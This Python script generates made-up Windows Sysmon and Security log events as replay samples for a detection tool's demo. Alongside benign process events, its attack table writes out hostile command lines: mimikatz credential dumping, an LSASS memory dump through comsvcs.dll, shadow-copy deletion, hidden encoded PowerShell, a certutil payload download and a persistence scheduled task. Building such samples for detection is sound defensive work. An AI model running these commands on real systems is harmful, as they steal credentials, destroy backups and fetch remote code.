"""Write the demo's replayed events (src/fenghuo/demo/samples/*.jsonl), deterministically.

The events are made up by the project for the demo: Windows process and access events in
the flat shipper form, some benign and some that the starter rules detect, on the hosts the
demo's asset registry gives each operator. `fenghuo run` replays them with their times moved
to the moment it starts (fenghuo.demo.replay). Re-run after changing this file:

    .venv/bin/python tools/make_demo_samples.py
"""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta
from pathlib import Path

import orjson

OUT = Path(__file__).resolve().parent.parent / "src" / "fenghuo" / "demo" / "samples"
START = datetime(2026, 1, 1, 0, 0, tzinfo=UTC)
SPAN = timedelta(hours=6)
SYSMON = "Microsoft-Windows-Sysmon/Operational"

BENIGN = [
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"chrome.exe" --type=renderer'),
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p"),
    ("C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\Public\\todo.txt"),
    ("C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", '"WINWORD.EXE" /n'),
]
ATTACKS = {
    "mimikatz": (
        "C:\\Users\\Public\\m.exe",
        'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    ),
    "minidump": (
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full",
    ),
    "shadows": ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    "encoded": (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    ),
    "certutil": (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.77/p.bin C:\\Temp\\p.bin",
    ),
    "netuser": ("C:\\Windows\\System32\\net.exe", "net user administrator /domain"),
    "schtasks": (
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks /create /tn upd /tr C:\\Users\\li\\AppData\\Local\\Temp\\u.exe /sc minute",
    ),
}
# source name, operator key, benign events, attacks (kind, count), lsass accesses, log clears
PLAN = [
    (
        "szpower-winlog",
        "szpower",
        60,
        [("mimikatz", 6), ("minidump", 3), ("shadows", 4), ("encoded", 8)],
        5,
        2,
    ),
    ("gzgas-winlog", "gzgas", 40, [("encoded", 4), ("certutil", 3), ("schtasks", 2)], 2, 1),
    ("cmb-winlog", "cmb", 40, [("netuser", 3), ("encoded", 2)], 0, 0),
    ("zjbank-winlog", "zjbank", 40, [("certutil", 2), ("netuser", 2)], 0, 0),
    ("cdmetro-winlog", "cdmetro", 30, [("schtasks", 1)], 0, 0),
]


def host(operator: str, n: int) -> str:
    return f"{operator}-ws{n:02d}.demo.internal"


def moment(rng: random.Random) -> str:
    at = START + timedelta(seconds=rng.randrange(int(SPAN.total_seconds())))
    return at.strftime("%Y-%m-%dT%H:%M:%S.000Z")


def process(rng: random.Random, operator: str, image: str, command: str) -> dict[str, object]:
    return {
        "@timestamp": moment(rng),
        "Hostname": host(operator, rng.randrange(1, 6)),
        "Channel": SYSMON,
        "SourceName": "Microsoft-Windows-Sysmon",
        "EventID": 1,
        "Image": image,
        "CommandLine": command,
        "User": rng.choice(["CORP\\li.wei", "CORP\\wang.fang", "CORP\\ops"]),
        "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        "ParentCommandLine": "cmd.exe",
        "ProcessId": rng.randrange(1000, 9000),
    }


def lsass(rng: random.Random, operator: str) -> dict[str, object]:
    return {
        "@timestamp": moment(rng),
        "Hostname": host(operator, 1),
        "Channel": SYSMON,
        "SourceName": "Microsoft-Windows-Sysmon",
        "EventID": 10,
        "SourceImage": "C:\\Users\\Public\\m.exe",
        "TargetImage": "C:\\Windows\\System32\\lsass.exe",
        "GrantedAccess": "0x1010",
    }


def log_cleared(rng: random.Random, operator: str) -> dict[str, object]:
    return {
        "@timestamp": moment(rng),
        "Hostname": host(operator, 2),
        "Channel": "Security",
        "SourceName": "Microsoft-Windows-Eventlog",
        "EventID": 1102,
        "SubjectUserName": "ops",
    }


def main() -> None:
    rng = random.Random(20261128)
    OUT.mkdir(parents=True, exist_ok=True)
    for source, operator, benign, attacks, accesses, clears in PLAN:
        events = [process(rng, operator, *rng.choice(BENIGN)) for _ in range(benign)]
        for kind, count in attacks:
            events += [process(rng, operator, *ATTACKS[kind]) for _ in range(count)]
        events += [lsass(rng, operator) for _ in range(accesses)]
        events += [log_cleared(rng, operator) for _ in range(clears)]
        events.sort(key=lambda event: str(event["@timestamp"]))
        lines = b"".join(orjson.dumps(event) + b"\n" for event in events)
        (OUT / f"{source}.jsonl").write_bytes(lines)
        print(f"{source}: {len(events)} events")


if __name__ == "__main__":
    main()
